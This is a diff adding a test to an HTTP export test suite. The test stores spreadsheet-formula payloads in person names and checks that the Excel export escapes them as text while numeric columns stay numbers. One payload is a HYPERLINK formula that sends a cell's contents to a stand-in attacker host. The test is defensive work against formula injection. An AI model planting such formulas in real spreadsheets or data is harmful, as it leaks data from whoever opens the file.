@@ -93,4 +93,28 @@ describe('export approval over HTTP, with the demo accounts', () => {
     expect((await street.get('/api/people/persons/export')).status).toBe(200);
     expect((await district.post(`/api/people/export-policy/${districtId}`, { approvalAbove: -1 })).status).toBe(400);
   });
+
+  it('a name or address typed as a formula comes out as text, numbers stay numbers', async () => {
+    const worker = await login(app, 'worker');
+    const exported = async () => {
+      const res = await app.inject({ method: 'GET', url: '/api/people/persons/export?sort=name', headers: { cookie: worker.cookie } });
+      expect(res.statusCode).toBe(200);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+      const rows: ExcelJS.CellValue[][] = [];
+      book.worksheets[0]!.eachRow((row, n) => void (n > 1 && rows.push((row.values as ExcelJS.CellValue[]).slice(1))));
+      return rows;
+    };
+    const [first, second, third] = await exported();
+    const hostile = { [Number(first![0])]: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', [Number(second![0])]: '@SUM(1+1)', [Number(third![0])]: '-2+3' };
+    for (const [id, name] of Object.entries(hostile)) await t.core.db.updateTable('person').set({ name }).where('id', '=', Number(id)).execute();
+    const after = new Map((await exported()).map((r) => [Number(r[0]), r]));
+    for (const [id, name] of Object.entries(hostile)) {
+      const row = after.get(Number(id))!;
+      expect(row[1]).toBe(`'${name}`);
+      // The id and the age are still numbers, not text.
+      expect(typeof row[0]).toBe('number');
+      if (row[3] !== undefined && row[3] !== null && row[3] !== '') expect(typeof row[3]).toBe('number');
+    }
+  });
 });
